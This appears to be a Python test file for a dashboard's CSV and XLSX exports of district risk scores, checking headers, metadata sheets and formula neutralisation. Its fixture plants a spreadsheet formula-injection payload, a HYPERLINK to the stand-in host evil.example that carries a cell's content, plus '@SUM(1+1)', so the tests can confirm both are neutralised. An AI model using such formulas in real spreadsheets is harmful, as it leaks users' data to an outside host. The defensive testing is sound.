"""CSV and XLSX downloads: exactly the table, formula-safe, with a metadata sheet."""
from __future__ import annotations

import dataclasses
import datetime as dt
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from dashboard.exports import assemble
from dashboard.exports.spreadsheet import render_csv, render_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def result(model_data):
    from risk_model.pipeline import run_model
    from risk_model.spec import load_spec

    res = run_model(model_data, load_spec("slv_default"), 2023, draws=50)
    table = res.table.copy()
    first = table.loc[table["rank"] == table["rank"].min(), "code"].iloc[0]
    table.loc[table["code"] == first, "name"] = HYPERLINK
    table.loc[table["code"] == "0617", "department"] = "@SUM(1+1)"
    return dataclasses.replace(res, table=table)


def ctx(store, lang):
    return assemble.ExportContext(country="slv", country_name="El Salvador", lang=lang,
                                  date=dt.date(2025, 1, 15), data_version=store.version("slv"),
                                  attributions={}, datasets=store.datasets("slv"))


def test_xlsx_has_the_table_and_a_metadata_sheet(result, built_store):
    table = assemble.score_export(result, ctx(built_store, "es"))
    wb = load_workbook(io.BytesIO(render_xlsx(table)))
    assert wb.sheetnames == ["datos", "metadatos"]
    data, meta = wb["datos"], wb["metadatos"]
    header = [c.value for c in data[1]]
    assert header[:5] == ["Código", "Territorio", "Departamento", "Puntaje (0–10)", "Clase"]  # as on screen
    assert data.max_row == 263  # 262 districts + header
    first = [c.value for c in data[2]]
    assert first[1] == "'" + HYPERLINK  # the rank-1 unit, renamed: neutralised
    assert all(c.data_type != "f" for row in data.iter_rows() for c in row)
    assert isinstance(first[3], float) and first[4] == "Muy alto"
    pairs = {r[0].value: r[1].value for r in meta.iter_rows(min_row=2) if r[0].value and r[1].value is not None}
    assert pairs["Especificación del modelo"] == result.spec.key()
    assert pairs["Versión de los datos"] == built_store.version("slv")
    assert pairs["Fecha de exportación"] == "2025-01-15" and pairs["Idioma"] == "Español"
    values = [c.value for row in meta.iter_rows() for c in row if c.value]
    active = built_store.datasets("slv").query("status == 'active'")
    for sha in active["sha256"]:
        assert sha in values
    assert "sha256" in values and "slv_acled" in values


def test_csv_is_the_same_table_neutralised_in_the_language_format(result, built_store):
    es = assemble.score_export(result, ctx(built_store, "es"))
    raw = render_csv(es)
    assert raw.startswith("\ufeff".encode())
    frame = pd.read_csv(io.BytesIO(raw), sep=";", decimal=",", encoding="utf-8-sig", dtype={"Código": str})
    assert len(frame) == 262 and list(frame.columns) == list(es.frame.columns)
    assert frame.loc[0, "Territorio"] == "'" + HYPERLINK
    assert (frame["Departamento"] == "'@SUM(1+1)").sum() == 1
    assert frame["Puntaje (0–10)"].dtype == float
    en = render_csv(assemble.score_export(result, ctx(built_store, "en"))).decode("utf-8-sig")
    assert en.splitlines()[0].startswith("Code,Area,Department,Score (0–10),Class,Rank,")
    assert "Very high" in en


def test_indicator_table_export(model_data, built_store):
    table = assemble.indicator_export(model_data, "acled_fatalities", ctx(built_store, "en"), year=2023,
                                      level="municipio_2024")
    assert len(table.frame) == 44
    assert "Smoothed rate (empirical Bayes)" in table.frame.columns
    wb = load_workbook(io.BytesIO(render_xlsx(table)))
    assert wb.sheetnames == ["data", "metadata"]
    assert wb["data"].cell(1, 4).value == "Indicator"
    assert wb["data"].cell(2, 4).value == "Fatalities recorded by ACLED"


def test_score_table_headers_are_the_priorities_table_headers(result, built_store):
    """Every column the Priorities page shows has the same name in the score CSV/XLSX, in both
    languages (the page's column configuration against the export's header row)."""
    from dashboard import ranked_tables

    shown = ("rank", "name", "department", "score", "class", "p_top", "label", "reliability", "code")
    n = result.spec.top_n
    for lang in ("es", "en"):
        screen = {c: cfg["label"] for c, cfg in ranked_tables.column_config(shown, lang, n).items()}
        header = list(assemble.score_export(result, ctx(built_store, lang)).frame.columns)
        assert set(screen.values()) <= set(header), (lang, set(screen.values()) - set(header))
    assert screen["p_top"] == f"P(top {n})" and screen["label"] == f"How sure (top {n})"
